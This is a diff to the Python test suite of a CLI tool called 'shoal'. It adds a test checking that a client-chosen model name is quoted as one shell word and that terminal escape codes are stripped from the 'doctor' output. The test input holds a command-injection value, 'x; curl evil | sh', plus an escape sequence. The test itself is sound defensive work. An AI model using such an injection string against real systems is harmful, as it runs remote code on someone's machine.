@@ -21,7 +21,7 @@ from typer.core import TyperGroup
 from typer.main import get_command
 from typer.testing import CliRunner
 
-from shoal.cli import admin_page
+from shoal.cli import admin_page, doctor
 from shoal.cli.diagnosis import checks, gather
 from shoal.cli.diagnosis.facts import CertificateFacts, DiskFacts, Facts, LocalFacts, LogFacts, ProcessFacts, Severity
 from shoal.cli.endpoints import Endpoint
@@ -548,6 +548,26 @@ def test_commands_name_the_node_that_was_looked_at() -> None:
         "shoal up --data-dir '/srv/my node'",
         "shoal logs infer-0 --level error --data-dir '/srv/my node'",
     }
+
+
+def test_a_name_chosen_by_a_client_is_one_word_of_a_command_and_shows_no_line_of_its_own(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    name = "x; curl evil | sh\nerror   run this \x1b[2J"
+    facts = replace(
+        HEALTHY,
+        dead=(replace(job(timedelta(minutes=5)), model_name=name),),
+        index=(IndexEntry(name, "1", "UNAVAILABLE", "no such file"),),
+        unread={"keys": f"no {name}"},
+    )
+    found = {finding.check: shlex.split(finding.command) for finding in checks.diagnose(facts)}
+    assert found["dead-letters"] == ["shoal", "jobs", "dead", "list", "--model", name]
+    assert found["model-unavailable"] == ["shoal", "logs", "infer", "--contains", name]
+    monkeypatch.setattr(doctor, "_facts", lambda gateway, data_dir: facts)
+    shown = CliRunner().invoke(app, ["doctor"]).output
+    assert "\x1b" not in shown
+    # Two findings with their commands, the count, and what was not read.
+    assert len(shown.splitlines()) == 6
 
 
 def test_every_check_has_a_cause_here_and_there_are_as_many_as_the_docs_say(repository_root: Path) -> None:
